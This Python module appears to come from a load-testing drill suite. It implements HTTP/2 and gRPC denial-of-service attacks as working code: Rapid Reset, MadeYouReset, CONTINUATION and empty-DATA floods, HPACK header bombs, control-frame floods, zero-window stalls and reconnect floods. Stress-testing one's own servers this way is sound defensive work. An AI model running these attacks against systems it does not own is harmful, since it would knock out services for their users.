"""Attacks on the gRPC port below the messages: frames, headers, windows, connections."""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable, Iterator

from loadtest.drill.hostile import peer as h2
from loadtest.drill.hostile.attacker import PAUSE_S, Attacker, EndedError
from loadtest.drill.hostile.peer import END_HEADERS, END_STREAM, Http2Peer, call_headers, frame
from loadtest.drill.hostile.protobuf import LOOKUP, RANK, sized, tag

REFLECTED = 100_000
NO_METHOD = "/drill/None"
HEADERS_EACH = 400
CALLS_UNTAKEN = 200
_REFLECTION = "/grpc.reflection.{}.ServerReflection/ServerReflectionInfo"

Frames = Callable[[Attacker, Http2Peer], Iterator[bytes]]


def flood(frames: Frames, each: int) -> Callable[[Attacker], None]:
    """Sends frames on a connection that is otherwise as it must be; over a new one whenever the server ends it.

    Args:
        frames: of one connection.
        each: frames in each chunk.
    """

    def run(attacker: Attacker) -> None:
        now: list[Http2Peer] = []

        def chunks() -> Iterator[bytes]:
            peer = Http2Peer()
            now[:] = [peer]
            # Windows stay as they are: their updates are an attack of their own.
            yield h2.PREFACE + h2.settings({})
            yield from frames(attacker, peer)

        def on_data(data: bytes) -> bytes:
            peer = now[0]
            peer.feed(data)
            if peer.goaway:
                raise EndedError(f"GOAWAY {peer.goaway}")
            for stream in [number for number, reply in peer.replies.items() if reply.ended]:
                attacker.answered(str(peer.replies.pop(stream)))
            out = bytes(peer.out)
            peer.out.clear()
            return out

        attacker.flood(attacker.grpc, chunks, each, on_data=on_data)

    return run


def _head(path: str, stream: int, flags: int = END_HEADERS) -> bytes:
    return frame(h2.HEADERS, flags, stream, call_headers(path))


def one_byte_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Row 4: DATA frames of one byte."""
    while True:
        stream = peer.open()
        yield _head(RANK, stream) + peer.data(stream, h2.message(bytes(10_000_000))[:5], last=False)
        while not peer.replies.get(stream, h2.Reply(ended=True)).ended:
            room = min(peer.window, peer.stream_windows.get(stream, 0), 700)
            if room > 0:
                yield b"".join(peer.data(stream, b"\0", last=False) for _ in range(room))
            else:
                time.sleep(0.0002)
                yield b""


def ended_stream_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Row 4: the same on a stream that has ended."""
    stream = peer.open()
    yield _head(NO_METHOD, stream, END_HEADERS | END_STREAM)
    for _ in range(10):
        yield b""
    while True:
        if peer.window < 700:
            time.sleep(0.0002)
            yield b""
            continue
        yield b"".join(peer.data(stream, b"\0", last=False) for _ in range(700))


def empty_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Row 11: DATA frames without data (CVE-2019-9518)."""
    stream = peer.open()
    yield _head(RANK, stream)
    while True:
        yield frame(h2.DATA, 0, stream) * 700


def rapid_reset(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Row 11: calls that are cancelled at once (CVE-2023-44487)."""
    code = (8).to_bytes(4, "big")
    block = call_headers(RANK)
    while True:
        made = bytearray()
        for _ in range(50):
            stream = peer.open(watched=False)
            made += frame(h2.HEADERS, END_HEADERS, stream, block) + frame(h2.RST_STREAM, 0, stream, code)
        yield bytes(made)


def made_resets(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Calls that the server must reset itself (CVE-2025-8671): a window update of zero follows each."""
    block = call_headers(RANK)
    while True:
        made = bytearray()
        for _ in range(50):
            stream = peer.open(watched=False)
            made += frame(h2.HEADERS, END_HEADERS, stream, block) + h2.window_update(stream, 0)
        yield bytes(made)


def repeated_frame(made: bytes, count: int = 500) -> Frames:
    """The same frame again and again."""

    def frames(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
        while True:
            yield made * count

    return frames


ping = repeated_frame(frame(h2.PING, 0, 0, bytes(8)))
settings = repeated_frame(h2.settings({h2.SETTING_WINDOW: 65_535}))
table_sizes = repeated_frame(h2.settings({h2.SETTING_HEADER_TABLE: 0}) + h2.settings({h2.SETTING_HEADER_TABLE: 4096}))
window_updates = repeated_frame(h2.window_update(0, 1))
priority = repeated_frame(frame(h2.PRIORITY, 0, 1, bytes((0, 0, 0, 0, 16))))
unknown_frames = repeated_frame(frame(0x7F, 0, 0, bytes(8)))


def continuation(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Row 11: a head that does not end, in small pieces (CVE-2024-27316)."""
    stream = peer.open(watched=False)
    yield frame(h2.HEADERS, 0, stream, call_headers(RANK))
    while True:
        yield frame(h2.CONTINUATION, 0, stream, h2.header(b"a", b"b")) * 500


def empty_continuation(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """The same with pieces of nothing."""
    stream = peer.open(watched=False)
    yield frame(h2.HEADERS, 0, stream, call_headers(RANK))
    while True:
        yield frame(h2.CONTINUATION, 0, stream) * 500


def new_headers(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Row 6: calls of a method that there isn't, each with 400 headers that the server shall remember."""
    value = 0
    while True:
        made = bytearray()
        for _ in range(HEADERS_EACH):
            value += 1
            made += h2.header(b"x-%d" % value, b"v%d" % value, indexed=True)
        stream = peer.open()
        yield frame(h2.HEADERS, END_HEADERS | END_STREAM, stream, call_headers(NO_METHOD) + bytes(made))


def header_bomb(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """A header of 4,000 bytes that is remembered once and then referred to 16,000 times with a byte each."""
    stored = h2.header(b"x", b"y" * 3_900, indexed=True)
    first = peer.open()
    yield frame(h2.HEADERS, END_HEADERS | END_STREAM, first, call_headers(NO_METHOD) + stored)
    while True:
        stream = peer.open()
        block = call_headers(NO_METHOD)
        references = b"\xbe" * (h2.FRAME_BYTES - len(block))
        yield frame(h2.HEADERS, END_HEADERS | END_STREAM, stream, block + references)


def untaken(attacker: Attacker) -> None:
    """Calls with large answers on a connection whose windows stay closed."""

    def connect() -> socket.socket:
        sock = attacker.grpc()
        peer = Http2Peer(opens_window=False)
        attacker.send(sock, peer.begin())
        for _ in range(CALLS_UNTAKEN):
            stream = peer.open()
            body = h2.message(lookup_of_rows(attacker, 400))
            attacker.send(sock, _head(LOOKUP, stream) + frame(h2.DATA, END_STREAM, stream, body))
            attacker.tally.messages += 1
        return sock

    def nothing() -> Iterator[bytes]:
        while True:
            time.sleep(0.01)
            yield b""

    attacker.flood(connect, nothing, 0)


def lookup_of_rows(attacker: Attacker, rows: int) -> bytes:
    """A valid lookup of one feature."""
    feature = sized(1, b"".join((7).to_bytes(8, "little") for _ in range(rows)))
    entry = sized(3, sized(1, attacker.config.features[0].encode()), sized(2, feature))
    return sized(1, attacker.config.model.encode()) + entry


def preface_garbage(attacker: Attacker) -> None:
    """Bytes that are not HTTP/2, each on a connection of its own."""
    _reconnect(attacker, b"GET / HTTP/1.1\r\nhost: drill\r\n\r\n" + attacker.random.randbytes(100))


def reconnect(attacker: Attacker) -> None:
    """Row 11: a connection for each call of a method that there isn't."""
    _reconnect(attacker, Http2Peer().begin() + _head(NO_METHOD, 1, END_HEADERS | END_STREAM))


def _reconnect(attacker: Attacker, data: bytes) -> None:
    attacker.until = time.monotonic() + attacker.config.seconds
    with attacker.span():
        while attacker.goes_on():
            try:
                with contextlib.closing(attacker.grpc()) as sock:
                    sock.settimeout(2)
                    attacker.send(sock, data)
                    attacker.tally.messages += 1
                    attacker.answered("something" if sock.recv(4096) else "closed")
            except (EndedError, OSError) as error:
                attacker.ended(str(error))
                time.sleep(0.001)


def reflection(version: str, count: int) -> Callable[[Attacker], None]:
    """Rows 8 and 15: a reflection stream of so many requests."""

    def run(attacker: Attacker) -> None:
        request = h2.message(sized(7, b""))
        if count > 1:
            request = h2.message(tag(4, 2) + b"\x01x") * count
        repeats = attacker.config.repeats if count == 1 else 1
        for _ in range(repeats):
            with attacker.span(), contextlib.closing(attacker.grpc()) as sock:
                peer = Http2Peer()
                attacker.send(sock, peer.begin())
                attacker.tally.messages += count
                attacker.answered(str(attacker.call(sock, peer, _REFLECTION.format(version), request)))
            time.sleep(PAUSE_S)

    return run


def bad_header(name: bytes, value: bytes) -> Callable[[Attacker], None]:
    """Row 12: a valid call with one header that must not be."""

    def run(attacker: Attacker) -> None:
        for _ in range(attacker.config.repeats):
            with attacker.span(), contextlib.closing(attacker.grpc()) as sock:
                peer = Http2Peer()
                attacker.send(sock, peer.begin())
                attacker.tally.messages += 1
                body = h2.message(lookup_of_rows(attacker, 1))
                attacker.answered(str(attacker.call(sock, peer, LOOKUP, body, extra=((name, value),))))
            time.sleep(PAUSE_S)

    return run
